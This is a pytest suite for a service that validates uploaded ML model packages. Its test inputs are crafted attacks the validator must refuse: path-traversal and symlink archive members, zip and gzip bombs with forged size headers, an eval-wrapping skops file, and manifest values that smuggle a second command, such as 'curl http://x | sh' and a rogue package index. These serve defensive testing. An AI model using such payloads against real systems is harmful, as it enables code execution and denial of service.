"""Tests for controlplane.packages: checking and storing uploaded model packages.

Plain pytest functions; no database is needed.
"""

from __future__ import annotations

import hashlib
import io
import os
import stat
import struct
import tarfile
import time
import warnings
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from controlplane import packages
from controlplane.packages import (
    CheckedPackage,
    PackageError,
    check_upload,
    discard,
    store_package,
    unpacked_path,
)

MB = 1024 * 1024
ONNX_MANIFEST = b"framework: onnx\nmodel: model.onnx\n"
SKLEARN_MANIFEST = b"framework: sklearn\nmodel: model.skops\n"
PYTHON_MANIFEST = b"framework: python\nentrypoint: predictor:Model\nrequirements: [numpy]\n"
PREDICTOR = b"""\
import numpy as np


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        return {"output": np.asarray(inputs["input"]).sum(axis=1)}
"""


# --------------------------------------------------------------------------
# Fixtures and helpers
# --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def digits_classifier():
    from sklearn.datasets import load_digits
    from sklearn.linear_model import LogisticRegression

    X, y = load_digits(return_X_y=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # ConvergenceWarning: the short fit is deliberate
        clf = LogisticRegression(max_iter=20).fit(X, y)
    return clf, X.astype(np.float32)


@pytest.fixture(scope="module")
def onnx_bytes(digits_classifier) -> bytes:
    from skl2onnx import to_onnx

    clf, X = digits_classifier
    return to_onnx(clf, X[:1], options={"zipmap": False}).SerializeToString()


@pytest.fixture(scope="module")
def skops_bytes(digits_classifier) -> bytes:
    import skops.io

    return skops.io.dumps(digits_classifier[0])


@pytest.fixture(scope="module")
def untrusted_skops_bytes() -> bytes:
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    return skops.io.dumps(FunctionTransformer(func=eval))  # flagged as builtins.eval


@pytest.fixture
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    """(tmp_dir, artifact_root) for one test."""
    return tmp_path / "tmp", tmp_path / "artifacts"


def make_zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def make_tgz(files: dict[str, bytes], *, extra: list[tarfile.TarInfo] = ()) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for info in extra:
            tf.addfile(info)
    return buf.getvalue()


def tar_entry(name: str, kind: bytes, *, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


def package_files(framework: str, onnx_bytes: bytes, skops_bytes: bytes) -> dict[str, bytes]:
    if framework == "onnx":
        return {"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes}
    if framework == "sklearn":
        return {"modelbay.yaml": SKLEARN_MANIFEST, "model.skops": skops_bytes}
    return {"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": PREDICTOR, "weights.txt": b"1 2 3\n"}


def archive(kind: str, files: dict[str, bytes]) -> tuple[str, bytes]:
    return ("package.zip", make_zip(files)) if kind == "zip" else ("package.tar.gz", make_tgz(files))


def check(dirs, name: str, data: bytes, *, max_bytes: int = 50 * MB,
          max_unpacked_bytes: int = 50 * MB) -> CheckedPackage:
    return check_upload(SimpleUploadedFile(name, data), max_bytes=max_bytes,
                        max_unpacked_bytes=max_unpacked_bytes, tmp_dir=dirs[0])


def assert_nothing_left(dirs) -> None:
    tmp_dir, artifact_root = dirs
    assert not tmp_dir.exists() or list(tmp_dir.iterdir()) == []
    assert not artifact_root.exists() or list(artifact_root.iterdir()) == []


def refused(dirs, name: str, data: bytes, *, status: int = 400, match: str = "",
            **limits) -> PackageError:
    """Assert the upload is refused with ``status`` and ``match`` in the detail, leaving nothing."""
    with pytest.raises(PackageError) as info:
        check(dirs, name, data, **limits)
    err = info.value
    assert err.status == status, err.detail
    assert err.code == {400: "invalid_request", 413: "payload_too_large"}[status]
    assert match in err.detail, err.detail
    assert str(err) == err.detail
    assert_nothing_left(dirs)
    return err


class PlainFile:
    """A minimal file-like upload: .name and .read() only (no .chunks(), no .size)."""

    def __init__(self, name: str, data: bytes) -> None:
        self.name = name
        self._buf = io.BytesIO(data)

    def read(self, size: int = -1) -> bytes:
        return self._buf.read(size)


# --------------------------------------------------------------------------
# Good uploads
# --------------------------------------------------------------------------


def test_bare_onnx_upload(dirs, onnx_bytes):
    checked = check(dirs, "digits.onnx", onnx_bytes)
    assert checked.framework == "onnx"
    assert checked.manifest == {"framework": "onnx", "model": "digits.onnx"}
    assert checked.sha256 == hashlib.sha256(onnx_bytes).hexdigest()
    assert checked.size == len(onnx_bytes)
    assert checked.filename == "digits.onnx"
    assert checked.path.read_bytes() == onnx_bytes
    assert [p.name for p in checked.unpacked_dir.iterdir()] == ["digits.onnx"]
    discard(checked)
    assert_nothing_left(dirs)


def test_bare_onnx_name_is_sanitised(dirs, onnx_bytes):
    checked = check(dirs, "../../etc/My Model!.ONNX", onnx_bytes)
    assert checked.filename == "My_Model_.ONNX"
    assert [p.name for p in checked.unpacked_dir.iterdir()] == ["My_Model_.onnx"]
    assert checked.manifest["model"] == "My_Model_.onnx"
    discard(checked)


def test_plain_file_like_upload(dirs, onnx_bytes):
    checked = check_upload(PlainFile("m.onnx", onnx_bytes), max_bytes=50 * MB,
                           max_unpacked_bytes=50 * MB, tmp_dir=dirs[0])
    assert checked.sha256 == hashlib.sha256(onnx_bytes).hexdigest()
    discard(checked)
    assert_nothing_left(dirs)


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
@pytest.mark.parametrize("framework", ["onnx", "sklearn", "python"])
def test_good_archive(dirs, kind, framework, onnx_bytes, skops_bytes):
    files = package_files(framework, onnx_bytes, skops_bytes)
    name, data = archive(kind, files)
    checked = check(dirs, name, data)
    assert checked.framework == framework
    assert checked.manifest["framework"] == framework
    assert checked.filename == name
    for rel, content in files.items():
        assert (checked.unpacked_dir / rel).read_bytes() == content
    discard(checked)
    assert_nothing_left(dirs)


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_single_top_level_folder_is_normalised_to_root(dirs, kind, onnx_bytes, skops_bytes):
    files = package_files("python", onnx_bytes, skops_bytes)
    files = {"my-model/": b"", **{f"my-model/{k}": v for k, v in files.items()}}
    if kind == "tar.gz":
        files.pop("my-model/")  # a tar folder entry would be a file named like this here
    name, data = archive(kind, files)
    checked = check(dirs, name, data)
    assert sorted(p.name for p in checked.unpacked_dir.iterdir()) == [
        "modelbay.yaml", "predictor.py", "weights.txt"]
    assert checked.manifest["entrypoint"] == "predictor:Model"
    discard(checked)


def test_dot_slash_tar_layout(dirs, onnx_bytes):
    data = make_tgz({"./modelbay.yaml": ONNX_MANIFEST, "./model.onnx": onnx_bytes},
                    extra=[tar_entry("./", tarfile.DIRTYPE), tar_entry("./sub", tarfile.DIRTYPE)])
    checked = check(dirs, "pkg.tgz", data)
    assert sorted(p.name for p in checked.unpacked_dir.iterdir()) == ["model.onnx", "modelbay.yaml", "sub"]
    discard(checked)


def test_macos_resource_forks_are_ignored(dirs, onnx_bytes):
    data = make_zip({"m/modelbay.yaml": ONNX_MANIFEST, "m/model.onnx": onnx_bytes,
                     "__MACOSX/m/._model.onnx": b"junk"})
    checked = check(dirs, "m.zip", data)
    assert sorted(p.name for p in checked.unpacked_dir.iterdir()) == ["model.onnx", "modelbay.yaml"]
    discard(checked)


def test_kind_detected_by_content_when_name_has_no_extension(dirs, onnx_bytes):
    checked = check(dirs, "package", make_zip(package_files("onnx", onnx_bytes, b"")))
    assert checked.framework == "onnx"
    discard(checked)


def test_python_code_is_never_executed(dirs, tmp_path):
    marker = tmp_path / "executed"
    evil = (f"open({str(marker)!r}, 'w').write('x')\n"
            "class Model:\n    def load(self, p): pass\n    def predict(self, x): pass\n").encode()
    checked = check(dirs, "p.zip", make_zip({"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": evil}))
    assert checked.framework == "python"
    assert not marker.exists()
    discard(checked)


def test_python_entrypoint_as_package_init(dirs):
    manifest = b"framework: python\nentrypoint: pkg.sub:Model\n"
    checked = check(dirs, "p.zip", make_zip({"modelbay.yaml": manifest, "pkg/__init__.py": b"",
                                              "pkg/sub/__init__.py": PREDICTOR}))
    assert checked.manifest["entrypoint"] == "pkg.sub:Model"
    discard(checked)


# --------------------------------------------------------------------------
# Refusals: size, emptiness, format
# --------------------------------------------------------------------------


def test_oversize_upload(dirs, onnx_bytes):
    refused(dirs, "digits.onnx", onnx_bytes, status=413, match="larger than", max_bytes=100)


def test_oversize_upload_without_declared_size(dirs, onnx_bytes):
    with pytest.raises(PackageError) as info:
        check_upload(PlainFile("digits.onnx", onnx_bytes), max_bytes=100,
                     max_unpacked_bytes=MB, tmp_dir=dirs[0])
    assert (info.value.status, info.value.code) == (413, "payload_too_large")
    assert_nothing_left(dirs)


def test_empty_upload(dirs):
    refused(dirs, "model.onnx", b"", match="empty")


def test_unknown_format(dirs):
    refused(dirs, "notes.txt", b"just some text", match="unknown package format")


@pytest.mark.parametrize("name", ["model.zip", "model.tar.gz", "model.tgz"])
def test_archive_name_with_other_content(dirs, name, onnx_bytes):
    refused(dirs, name, onnx_bytes, match="does not match its name")


def test_onnx_name_with_archive_content(dirs):
    refused(dirs, "model.onnx", make_zip({"a": b"b"}), match="expected an ONNX model, found a zip archive")


@pytest.mark.parametrize("garbage", [b"this is not an onnx model", b"\x08\x07", b"\x00" * 64])
def test_garbage_onnx(dirs, garbage):
    refused(dirs, "model.onnx", garbage, match="not a valid ONNX model")


def test_onnx_without_graph_inputs(dirs):
    from onnx import TensorProto, helper, numpy_helper

    const = helper.make_node("Constant", [], ["y"], value=numpy_helper.from_array(np.ones(3, np.float32)))
    graph = helper.make_graph([const], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [3])])
    refused(dirs, "const.onnx", helper.make_model(graph).SerializeToString(), match="no inputs")


def test_onnx_external_data_outside_package(dirs):
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((3, 3), np.float32), "W")
    weight.ClearField("raw_data")
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = "location", "../../etc/passwd"
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])], [weight])
    err = refused(dirs, "ext.onnx", helper.make_model(graph).SerializeToString(), match="not a valid ONNX model")
    assert str(dirs[0]) not in err.detail  # no server paths in messages


def test_corrupt_zip(dirs):
    refused(dirs, "p.zip", b"PK\x03\x04" + b"\x00" * 100, match="corrupt or unsupported zip")


def test_corrupt_tar_gz(dirs):
    refused(dirs, "p.tar.gz", b"\x1f\x8b\x08\x00" + b"\xff" * 100, match="corrupt or unsupported tar.gz")


# --------------------------------------------------------------------------
# Refusals: archive members
# --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
@pytest.mark.parametrize("bad_name, match", [
    ("/etc/cron.d/evil", "absolute path"),
    ("../evil.py", "'..'"),
    ("pkg/../../evil.py", "'..'"),
    ("C:/evil.py", "absolute path"),
    ("dir\\..\\evil.py", "backslash"),
])
def test_unsafe_member_names(dirs, kind, bad_name, match, onnx_bytes):
    files = {"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes, bad_name: b"x"}
    name, data = archive(kind, files)
    if kind == "zip":
        assert bad_name in zipfile.ZipFile(io.BytesIO(data)).namelist()  # not rewritten by zipfile
    refused(dirs, name, data, match=match)
    assert not (dirs[0].parent / "evil.py").exists()


def test_zip_symlink_entry(dirs, onnx_bytes):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("modelbay.yaml", ONNX_MANIFEST)
        zf.writestr("model.onnx", onnx_bytes)
        link = zipfile.ZipInfo("secrets")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    refused(dirs, "p.zip", buf.getvalue(), match="symbolic link")


def test_zip_device_entry(dirs):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("modelbay.yaml", ONNX_MANIFEST)
        dev = zipfile.ZipInfo("dev")
        dev.external_attr = (stat.S_IFCHR | 0o666) << 16
        zf.writestr(dev, "")
    refused(dirs, "p.zip", buf.getvalue(), match="not a regular file")


@pytest.mark.parametrize("entry, match", [
    (tar_entry("link", tarfile.SYMTYPE, linkname="/etc/passwd"), "symbolic link"),
    (tar_entry("hard", tarfile.LNKTYPE, linkname="modelbay.yaml"), "hard link"),
    (tar_entry("dev", tarfile.CHRTYPE), "device or fifo"),
    (tar_entry("blk", tarfile.BLKTYPE), "device or fifo"),
    (tar_entry("fifo", tarfile.FIFOTYPE), "device or fifo"),
])
def test_tar_special_members(dirs, entry, match, onnx_bytes):
    data = make_tgz({"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes}, extra=[entry])
    refused(dirs, "p.tar.gz", data, match=match)


def test_duplicate_members(dirs, onnx_bytes):
    data = make_tgz({"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes})
    with_dupe = make_tgz({"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes},
                         extra=[tar_entry("model.onnx", tarfile.REGTYPE)])
    assert data != with_dupe
    refused(dirs, "p.tgz", with_dupe, match="more than once")


def test_file_and_folder_clash(dirs, onnx_bytes):
    data = make_zip({"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes, "a": b"x", "a/b": b"y"})
    refused(dirs, "p.zip", data, match="clashes")


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_decompression_bomb_by_declared_size(dirs, kind):
    files = {"modelbay.yaml": ONNX_MANIFEST, "zeros.bin": bytes(20 * MB)}
    name, data = archive(kind, files)
    assert len(data) < 100 * 1024
    refused(dirs, name, data, status=413, match="unpacks to more than", max_unpacked_bytes=MB)


def _zip_with_lying_size(files: dict[str, bytes], real: bytes, declared: int, *, crc_of: bytes) -> bytes:
    """A zip of ``files`` plus a last member zeros.bin that says it is ``declared`` bytes but holds ``real``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        zf.writestr("zeros.bin", real)
    raw = bytearray(buf.getvalue())
    info = zipfile.ZipFile(io.BytesIO(bytes(raw))).getinfo("zeros.bin")
    crc = zlib.crc32(crc_of)
    central = raw.rindex(b"PK\x01\x02")  # zeros.bin is the last central directory entry
    struct.pack_into("<I", raw, central + 16, crc)
    struct.pack_into("<I", raw, central + 24, declared)
    struct.pack_into("<I", raw, info.header_offset + 14, crc)
    struct.pack_into("<I", raw, info.header_offset + 22, declared)
    lying = zipfile.ZipFile(io.BytesIO(bytes(raw))).getinfo("zeros.bin")
    assert lying.file_size == declared and lying.compress_size == info.compress_size
    return bytes(raw)


def test_zip_with_lying_size_header(dirs, onnx_bytes):
    files = {"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes}
    data = _zip_with_lying_size(files, bytes(20 * MB), 100, crc_of=bytes(20 * MB))
    refused(dirs, "bomb.zip", data, match="Bad CRC-32", max_unpacked_bytes=MB)


def test_zip_with_lying_size_header_writes_only_declared_bytes(dirs, onnx_bytes):
    """With a CRC matching the declared bytes zipfile cannot tell, but never writes more than declared."""
    files = {"modelbay.yaml": ONNX_MANIFEST, "model.onnx": onnx_bytes}
    data = _zip_with_lying_size(files, bytes(20 * MB), 100, crc_of=bytes(100))
    checked = check(dirs, "bomb.zip", data, max_unpacked_bytes=MB)
    assert (checked.unpacked_dir / "zeros.bin").stat().st_size == 100
    discard(checked)
    assert_nothing_left(dirs)


def test_extraction_cap_counts_written_bytes(dirs, monkeypatch):
    """Even when the declared sizes are not trusted (here: not checked at all), writing stops at the cap."""
    monkeypatch.setattr(packages, "_check_declared_size", lambda members, **kw: None)
    data = make_zip({"modelbay.yaml": ONNX_MANIFEST, "zeros.bin": bytes(5 * MB)})
    refused(dirs, "bomb.zip", data, status=413, match="unpacks to more than", max_unpacked_bytes=MB)


def test_copy_capped_stops_at_budget():
    budget = packages._Budget(limit=10, remaining=10)
    out = io.BytesIO()
    packages._copy_capped(io.BytesIO(b"12345"), out, budget=budget)
    with pytest.raises(PackageError) as info:
        packages._copy_capped(io.BytesIO(b"123456"), out, budget=budget)
    assert info.value.status == 413
    assert out.getvalue() == b"12345"


def test_capped_stream_refuses_to_read_or_seek_past_limit():
    stream = packages._CappedStream(io.BytesIO(bytes(100)), limit=50, cap=40)
    assert len(stream.read(30)) == 30
    with pytest.raises(PackageError) as info:
        stream.read()
    assert info.value.status == 413 and "40 bytes" in info.value.detail
    with pytest.raises(PackageError):
        packages._CappedStream(io.BytesIO(bytes(100)), limit=50, cap=40).seek(60)


def test_gzip_stream_capped_while_listing_tar(dirs, monkeypatch):
    """Listing a tar.gz never decompresses far past the cap (a pure gzip bomb)."""
    monkeypatch.setattr(packages, "MAX_MEMBERS", 3)
    files = {f"f{i}": bytes(MB) for i in range(3)}
    refused(dirs, "bomb.tgz", make_tgz({"modelbay.yaml": ONNX_MANIFEST, **files}),
            status=413, match="unpacks to more than", max_unpacked_bytes=100_000)


def test_too_many_members_zip(dirs):
    files = {"modelbay.yaml": ONNX_MANIFEST, **{f"f/{i}": b"" for i in range(packages.MAX_MEMBERS)}}
    refused(dirs, "many.zip", make_zip(files), match="more than 10000 members")


def test_too_many_members_tar(dirs, monkeypatch):
    monkeypatch.setattr(packages, "MAX_MEMBERS", 5)
    files = {"modelbay.yaml": ONNX_MANIFEST, **{f"f{i}": b"" for i in range(5)}}
    refused(dirs, "many.tgz", make_tgz(files), match="more than 5 members")


# --------------------------------------------------------------------------
# Refusals: manifest
# --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_missing_manifest(dirs, kind, onnx_bytes):
    name, data = archive(kind, {"model.onnx": onnx_bytes})
    refused(dirs, name, data, match="modelbay.yaml: missing")


def test_manifest_in_one_of_two_folders_is_missing(dirs, onnx_bytes):
    data = make_zip({"a/modelbay.yaml": ONNX_MANIFEST, "a/model.onnx": onnx_bytes, "b/x": b""})
    refused(dirs, "p.zip", data, match="modelbay.yaml: missing")


def test_bad_yaml(dirs, onnx_bytes):
    data = make_zip({"modelbay.yaml": b"framework: [onnx\n", "model.onnx": onnx_bytes})
    err = refused(dirs, "p.zip", data, match="modelbay.yaml: invalid YAML")
    assert not err.detail.startswith("modelbay.yaml: modelbay.yaml")


def test_bad_framework(dirs, onnx_bytes):
    data = make_zip({"modelbay.yaml": b"framework: tensorflow\n", "model.onnx": onnx_bytes})
    refused(dirs, "p.zip", data, match="modelbay.yaml: framework: ")


def test_manifest_unknown_field(dirs, onnx_bytes):
    data = make_zip({"modelbay.yaml": ONNX_MANIFEST + b"weights: x\n", "model.onnx": onnx_bytes})
    refused(dirs, "p.zip", data, match="modelbay.yaml: weights: unknown field")


def test_manifest_model_file_missing(dirs):
    refused(dirs, "p.zip", make_zip({"modelbay.yaml": ONNX_MANIFEST}), match="modelbay.yaml: model: ")


def test_manifest_not_utf8(dirs, onnx_bytes):
    data = make_zip({"modelbay.yaml": b"framework: \xff\xfe\n", "model.onnx": onnx_bytes})
    refused(dirs, "p.zip", data, match="modelbay.yaml: ")


def test_archive_with_garbage_onnx(dirs):
    data = make_zip({"modelbay.yaml": ONNX_MANIFEST, "model.onnx": b"garbage"})
    refused(dirs, "p.zip", data, match="not a valid ONNX model")


# --------------------------------------------------------------------------
# Refusals: python entrypoint
# --------------------------------------------------------------------------


def test_python_entrypoint_module_missing(dirs):
    data = make_zip({"modelbay.yaml": PYTHON_MANIFEST, "other.py": PREDICTOR})
    refused(dirs, "p.zip", data, match="entrypoint: module 'predictor' not found")


def test_python_entrypoint_class_missing(dirs):
    data = make_zip({"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": PREDICTOR.replace(b"Model", b"Other")})
    refused(dirs, "p.zip", data, match="class 'Model' is not defined")


def test_python_entrypoint_class_only_nested_is_missing(dirs):
    nested = b"def f():\n    class Model:\n        def load(self, p): pass\n        def predict(self, x): pass\n"
    data = make_zip({"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": nested})
    refused(dirs, "p.zip", data, match="class 'Model' is not defined")


@pytest.mark.parametrize("method", ["load", "predict"])
def test_python_entrypoint_method_missing(dirs, method):
    source = PREDICTOR.replace(f"def {method}(".encode(), b"def other(")
    data = make_zip({"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": source})
    refused(dirs, "p.zip", data, match=f"has no method '{method}'")


def test_python_entrypoint_syntax_error(dirs):
    data = make_zip({"modelbay.yaml": PYTHON_MANIFEST, "predictor.py": b"class Model(:\n"})
    refused(dirs, "p.zip", data, match="does not parse")


# --------------------------------------------------------------------------
# Refusals: sklearn / skops
# --------------------------------------------------------------------------


def test_skops_with_untrusted_type(dirs, untrusted_skops_bytes):
    data = make_zip({"modelbay.yaml": SKLEARN_MANIFEST, "model.skops": untrusted_skops_bytes})
    refused(dirs, "p.zip", data, match="untrusted types: builtins.eval")


def test_skops_not_a_zip(dirs):
    data = make_tgz({"modelbay.yaml": SKLEARN_MANIFEST, "model.skops": b"not a skops file"})
    refused(dirs, "p.tgz", data, match="not a valid skops file")


def test_skops_zip_without_schema(dirs):
    data = make_zip({"modelbay.yaml": SKLEARN_MANIFEST, "model.skops": make_zip({"a.npy": b""})})
    refused(dirs, "p.zip", data, match="schema.json is missing")


def test_skops_with_broken_schema(dirs):
    data = make_zip({"modelbay.yaml": SKLEARN_MANIFEST, "model.skops": make_zip({"schema.json": b"{"})})
    refused(dirs, "p.zip", data, match="not a valid skops file")


# --------------------------------------------------------------------------
# Storing
# --------------------------------------------------------------------------


def test_store_package_layout(dirs, onnx_bytes, skops_bytes):
    tmp_dir, artifact_root = dirs
    name, data = archive("zip", package_files("sklearn", onnx_bytes, skops_bytes))
    checked = check(dirs, name, data)
    stored = store_package(checked, artifact_root=artifact_root)
    sha = hashlib.sha256(data).hexdigest()
    assert stored == artifact_root / sha / "unpacked" == unpacked_path(sha, artifact_root=artifact_root)
    assert (artifact_root / sha / "artifact").read_bytes() == data
    assert (stored / "model.skops").read_bytes() == skops_bytes
    assert sorted(p.name for p in artifact_root.iterdir()) == [sha]
    assert list(tmp_dir.iterdir()) == []
    assert not checked.path.exists() and not checked.unpacked_dir.exists()


def test_store_package_is_idempotent(dirs, onnx_bytes):
    tmp_dir, artifact_root = dirs
    first = store_package(check(dirs, "m.onnx", onnx_bytes), artifact_root=artifact_root)
    mtime = (first.parent / "artifact").stat().st_mtime_ns
    second_checked = check(dirs, "other-name.onnx", onnx_bytes)
    second = store_package(second_checked, artifact_root=artifact_root)
    assert first == second
    assert [p.name for p in artifact_root.iterdir()] == [first.parent.name]
    assert (first.parent / "artifact").stat().st_mtime_ns == mtime  # first copy kept
    assert [p.name for p in first.iterdir()] == ["m.onnx"]
    assert list(tmp_dir.iterdir()) == []


def test_store_package_is_atomic_on_failure(dirs, onnx_bytes, monkeypatch):
    tmp_dir, artifact_root = dirs
    checked = check(dirs, "m.onnx", onnx_bytes)

    def broken_rename(self, target):
        raise OSError("disk on fire")

    monkeypatch.setattr(Path, "rename", broken_rename)
    with pytest.raises(OSError, match="disk on fire"):
        store_package(checked, artifact_root=artifact_root)
    monkeypatch.undo()
    assert list(artifact_root.iterdir()) == []  # no partial artifact, no staging dir
    assert list(tmp_dir.iterdir()) == []  # temps cleaned anyway


def test_store_package_loses_race_gracefully(dirs, onnx_bytes):
    """If another worker stored the same sha between our check and our rename, keep theirs."""
    tmp_dir, artifact_root = dirs
    theirs = store_package(check(dirs, "m.onnx", onnx_bytes), artifact_root=artifact_root)
    ours = check(dirs, "m.onnx", onnx_bytes)
    packages._move_into_place(ours, artifact_root=artifact_root, final=theirs.parent)
    discard(ours)
    assert [p.name for p in artifact_root.iterdir()] == [theirs.parent.name]
    assert (theirs.parent / "artifact").read_bytes() == onnx_bytes
    assert list(tmp_dir.iterdir()) == []


def test_discard_is_idempotent(dirs, onnx_bytes):
    checked = check(dirs, "m.onnx", onnx_bytes)
    discard(checked)
    discard(checked)
    assert_nothing_left(dirs)


def test_unpacked_path_rejects_non_sha(tmp_path):
    for bad in ["../etc", "A" * 64, "0" * 63, "", "0" * 64 + "/.."]:
        with pytest.raises(ValueError):
            unpacked_path(bad, artifact_root=tmp_path)


# --------------------------------------------------------------------------
# Small pieces
# --------------------------------------------------------------------------


@pytest.mark.parametrize("raw, clean", [
    ("model.onnx", "model.onnx"),
    ("/abs/path/model.onnx", "model.onnx"),
    ("C:\\Users\\me\\model.zip", "model.zip"),
    ("..", "upload"),
    ("", "upload"),
    (None, "upload"),
    (".hidden.tgz", "hidden.tgz"),
    ("weird name;rm -rf.tar.gz", "weird_name_rm_-rf.tar.gz"),
])
def test_sanitise_filename(raw, clean):
    assert packages.sanitise_filename(raw) == clean


def test_sanitise_filename_keeps_extension_when_truncating():
    name = packages.sanitise_filename("x" * 500 + ".tar.gz")
    assert len(name) == 200 and name.endswith(".tar.gz")


def test_package_error_codes():
    assert (PackageError("x").status, PackageError("x").code) == (400, "invalid_request")
    err = PackageError("too big", status=413)
    assert (err.status, err.code, err.detail, str(err)) == (413, "payload_too_large", "too big", "too big")
    with pytest.raises(ValueError):
        PackageError("x", status=500)


# --------------------------------------------------------------------------
# Names that reach a Dockerfile or pip, and shapes, are checked at upload
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "manifest_tail, match",
    [
        (b'system_packages: ["jq\\n RUN curl evil"]\n', "modelbay.yaml: system_packages[0]: is not a Debian package name"),
        (b'system_packages: ["jq\\n"]\n', "modelbay.yaml: system_packages[0]: is not a Debian package name"),
        (b'system_packages: ["jq curl"]\n', "modelbay.yaml: system_packages[0]: "),
        (b'requirements: ["numpy\\n--index-url http://x"]\n', "modelbay.yaml: requirements[0]: must be a single line"),
        (b'requirements: ["numpy --index-url http://x"]\n', "modelbay.yaml: requirements[0]: not a valid requirement"),
        (b'requirements: ["numpy; curl http://x | sh"]\n', "modelbay.yaml: requirements[0]: not a valid requirement"),
    ],
)
def test_python_package_with_injected_names_is_refused(dirs, manifest_tail, match):
    manifest = b"framework: python\nentrypoint: predictor:Model\n" + manifest_tail
    data = make_zip({"modelbay.yaml": manifest, "predictor.py": PREDICTOR})
    refused(dirs, "p.zip", data, match=match)


def test_requirements_file_with_an_option_line_is_refused(dirs):
    manifest = b"framework: python\nentrypoint: predictor:Model\nrequirements: requirements.txt\n"
    reqs = b"numpy\nscipy --index-url http://evil.invalid/simple\n"
    data = make_zip({"modelbay.yaml": manifest, "predictor.py": PREDICTOR, "requirements.txt": reqs})
    refused(dirs, "p.zip", data, match="modelbay.yaml: requirements (requirements.txt line 2): not a valid")


def test_huge_input_shape_is_refused(dirs, onnx_bytes):
    manifest = ONNX_MANIFEST + b"inputs: [{name: x, datatype: FP32, shape: [-1, 100000, 100000]}]\n"
    data = make_zip({"modelbay.yaml": manifest, "model.onnx": onnx_bytes})
    refused(dirs, "p.zip", data, match="modelbay.yaml: inputs[0].shape[1]: must be at most 65536")


def test_input_shape_with_too_many_values_is_refused(dirs, onnx_bytes):
    manifest = ONNX_MANIFEST + b"inputs: [{name: x, datatype: FP32, shape: [-1, 10000, 10000]}]\n"
    data = make_zip({"modelbay.yaml": manifest, "model.onnx": onnx_bytes})
    refused(dirs, "p.zip", data, match="modelbay.yaml: inputs[0].shape: holds 100000000 values")


def test_prune_storage_removes_what_no_version_refers_to_once_nothing_writes_it(tmp_path):
    artifacts, uploads = tmp_path / "artifacts", tmp_path / "uploads"
    day_ago = time.time() - 2 * 24 * 3600

    def made(path: Path, *, old: bool) -> Path:
        path.mkdir(parents=True)
        (path / "artifact").write_bytes(b"x")
        if old:
            os.utime(path, (day_ago, day_ago))
        return path

    kept = made(artifacts / ("a" * 64), old=True)  # a version refers to it
    deleted_model = made(artifacts / ("b" * 64), old=True)
    just_stored = made(artifacts / ("c" * 64), old=False)  # its row may not be committed yet
    staging = made(artifacts / ".staging-dead", old=True)
    leftover = made(uploads / "modelbay-upload-dead", old=True)
    fresh_upload = made(uploads / "modelbay-upload-live", old=False)
    other = made(artifacts / "lost+found", old=True)  # not ours

    removed = packages.prune_storage(artifact_root=artifacts, tmp_dir=uploads, keep={"a" * 64}, older_than_s=24 * 3600)

    assert sorted(removed) == sorted([deleted_model, staging, leftover])
    assert all(p.exists() for p in (kept, just_stored, fresh_upload, other))
    assert not any(p.exists() for p in removed)
